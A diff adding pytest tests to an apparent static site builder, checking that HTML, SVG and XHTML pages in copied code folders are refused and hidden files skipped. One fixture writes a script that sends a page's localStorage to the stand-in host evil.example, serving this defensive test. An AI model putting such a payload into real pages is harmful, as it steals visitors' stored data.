@@ -178,3 +178,22 @@ def test_command_line_refuses_a_figure_with_a_script_exits_1_and_keeps_the_site(
     assert run.returncode == 1
     assert run.stderr.splitlines()[0].startswith("content/figures/chart.svg:2: a <script> element"), run.stderr
     assert _fingerprint(site) == before
+
+
+@pytest.mark.parametrize("name", ["code/notes.html", "code/capstone/diagram.svg", "simulations/view.xhtml",
+                                  "code/INDEX.HTM"])
+def test_a_page_or_drawing_in_a_folder_copied_whole_is_refused(tmp_path, name):
+    book = make_book(tmp_path / "book", GOOD)
+    (book / name).parent.mkdir(parents=True, exist_ok=True)
+    (book / name).write_text("<html><script>fetch('//evil.example/?' + JSON.stringify(localStorage))</script></html>")
+    found = _refused(book, _good_site(tmp_path), f"{name}: a browser would open this file as a page of the site",
+                     simulations_dir=book / "simulations")
+    assert sum("a browser would open" in p for p in found) == 1, found
+
+
+def test_python_text_and_hidden_files_in_the_copied_folders_build(tmp_path):
+    book = make_book(tmp_path / "book", GOOD, code={"ex.py": "X = 1\n", "requirements.txt": "psycopg==3.2.3\n",
+                                                    ".scratch.html": "<script></script>"})
+    build_site(fixture_config(tmp_path / "site", root=book))
+    assert sorted(p.name for p in (tmp_path / "site" / "code").iterdir() if p.suffix != ".json") == [
+        "ex.py", "requirements.txt"]
